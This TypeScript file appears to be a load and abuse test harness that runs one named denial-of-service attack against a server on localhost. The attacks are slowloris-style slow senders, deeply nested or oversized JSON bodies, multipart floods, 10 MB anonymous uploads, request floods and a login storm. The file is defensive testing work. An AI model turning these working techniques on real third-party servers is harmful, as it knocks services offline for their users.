import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { setPriority } from 'node:os';
import { login } from 'core/accounts/contract';
import { MOST_BODY_BYTES } from 'core/kernel/endpoint';
import { applyForJob } from 'core/staff/contract';
import type { AttackName } from './attack-names.ts';

/**
 * Runs one attack on a server until the process is killed: `attacker.ts KIND PORT`. It has the lowest priority, so that its own
 * work takes no time from the server.
 */
setPriority(19);
const [kind = '', portText = ''] = process.argv.slice(2);
const port = Number(portText);

/** An attacker has a few dozen addresses. */
const ADDRESSES = 40;
let turn = 0;
const anAddress = (): string => {
  turn += 1;
  return `127.66.${Math.floor((turn % ADDRESSES) / 250)}.${(turn % ADDRESSES) + 1}`;
};

/** Opens a connection that announces a body, and lets `send` write to it. When it is closed, the next one is opened. */
function openSlow(send: (write: (text: string) => void) => NodeJS.Timeout | null): void {
  const socket = connect({ port, host: '127.0.0.1', localAddress: anAddress() });
  socket.on('error', () => {});
  socket.write(`POST ${login.path} HTTP/1.1\r\nhost: siege\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n{`);
  const timer = send((text) => socket.write(text));
  socket.resume();
  socket.once('close', () => {
    if (timer) clearInterval(timer);
    setTimeout(() => openSlow(send), 200);
  });
}

const agents = Array.from({ length: ADDRESSES }, () => new Agent({ keepAlive: true, maxSockets: 50, localAddress: anAddress() }));

/** Sends requests without a pause over this many connections. */
function callAlways(
  connections: number,
  next: (i: number) => { method: string; path: string; type?: string; body?: string | Buffer },
): void {
  let count = 0;
  const again = () => {
    count += 1;
    const { method, path, type = 'application/json', body } = next(count);
    const headers = body === undefined ? {} : { 'content-type': type, 'content-length': Buffer.byteLength(body) };
    const agent = agents[count % agents.length];
    const call = request({ port, host: '127.0.0.1', method, path, headers, ...(agent && { agent }) }, (answer) => {
      answer.resume();
      answer.once('close', () => setImmediate(again));
    });
    call.once('error', () => setTimeout(again, 50));
    call.end(body);
  };
  for (let i = 0; i < connections; i += 1) again();
}

const filled = (piece: string) => JSON.stringify({ login: piece.repeat((MOST_BODY_BYTES - 100) / piece.length), password: 'x' });
const pieces = ['1 ', '1', ' ', 'a@'].map(filled);
const nested = `{"login":${'['.repeat(30_000)}${']'.repeat(30_000)}}`;
const parts = `${'--x\r\ncontent-disposition: form-data; name="a[]"\r\n\r\n\r\n'.repeat(1000)}--x--\r\n`;
const pathological = [...pieces, nested].map((body) => ({ method: 'POST', path: login.path, body }));
pathological.push({ method: 'POST', path: applyForJob.path, body: parts, type: 'multipart/form-data; boundary=x' } as never);

/** A résumé of ten megabytes, sent by somebody who is not signed in. */
const resume = Buffer.concat([
  Buffer.from('--x\r\ncontent-disposition: form-data; name="resume"; filename="cv.pdf"\r\n\r\n'),
  Buffer.alloc(10 * 1024 * 1024, 'a'),
  Buffer.from('\r\n--x--\r\n'),
]);
const upload = { method: 'POST', path: applyForJob.path, body: resume, type: 'multipart/form-data; boundary=x' };

const SLOW_SENDERS = 1000;
const attacks: { readonly [K in AttackName]: () => void } = {
  'silent senders': () => {
    for (let i = 0; i < SLOW_SENDERS; i += 1) openSlow(() => null);
  },
  'dripping senders': () => {
    for (let i = 0; i < SLOW_SENDERS; i += 1) openSlow((write) => setInterval(() => write('x'), 1000));
  },
  'pathological bodies': () => callAlways(16, (i) => pathological[i % pathological.length] ?? { method: 'GET', path: '/' }),
  'large uploads': () => callAlways(12, () => upload),
  flood: () => callAlways(300, (i) => ({ method: 'GET', path: `/api/search?keyword=${i % 50}` })),
  'login storm': () =>
    callAlways(100, (i) => ({
      method: 'POST',
      path: login.path,
      body: JSON.stringify({ login: `nobody${i}@example.com`, password: 'not the password' }),
    })),
};

attacks[kind as AttackName]();
